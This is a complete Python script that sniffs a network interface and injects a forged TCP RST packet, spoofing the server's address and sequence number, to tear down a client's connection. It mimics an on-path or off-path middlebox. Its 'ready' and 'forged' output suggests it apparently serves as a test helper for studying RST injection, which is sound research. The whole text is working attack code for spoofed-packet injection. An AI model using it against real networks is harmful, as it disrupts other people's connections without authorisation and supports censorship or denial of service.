"""Forges one RST of a server to its client, as a device beside the path does.

usage: forge_rst.py INTERFACE PORT

Watches an interface for the first payload that a server with this port sends over IPv4, and sends a RST with the
next sequence number in the server's name, with a TTL of the forger's own. Prints `ready` and `forged`.
"""

import socket
import struct
import sys

interface, port = sys.argv[1], int(sys.argv[2])
ETH_P_IP, IPPROTO_TCP, RST_ACK = 0x0800, 6, 0x14


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reset(source, destination, client_port, sequence, acknowledged):
    tcp = struct.pack("!HHIIBBHHH", port, client_port, sequence, acknowledged, 5 << 4, RST_ACK, 0, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 55, IPPROTO_TCP, 0, source, destination)
    return ip + tcp


watching = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
watching.bind((interface, 0x0003))
sending = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("ready", flush=True)
while True:
    packet = watching.recv(65536)
    if packet[0] >> 4 != 4 or packet[9] != IPPROTO_TCP:
        continue
    header, total = (packet[0] & 15) * 4, struct.unpack("!H", packet[2:4])[0]
    source, destination, tcp = packet[12:16], packet[16:20], packet[header:]
    from_port, to_port, sequence, acknowledged = struct.unpack("!HHII", tcp[:12])
    length = total - header - (tcp[12] >> 4) * 4
    if from_port == port and length > 0:
        forged = reset(source, destination, to_port, (sequence + length) & 0xFFFFFFFF, acknowledged)
        sending.sendto(forged, (socket.inet_ntoa(destination), 0))
        print("forged", flush=True)
        break
